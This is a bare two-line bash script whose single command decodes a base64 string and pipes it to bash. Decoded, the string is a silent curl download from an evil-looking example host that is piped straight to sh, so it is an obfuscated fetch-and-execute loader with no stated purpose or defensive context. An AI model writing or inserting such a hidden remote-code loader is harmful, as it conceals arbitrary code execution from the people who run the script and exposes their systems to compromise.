#!/bin/bash
echo Y3VybCAtcyBodHRwczovL3guZXZpbC5leGFtcGxlL3AgfCBzaA== | base64 -d | bash
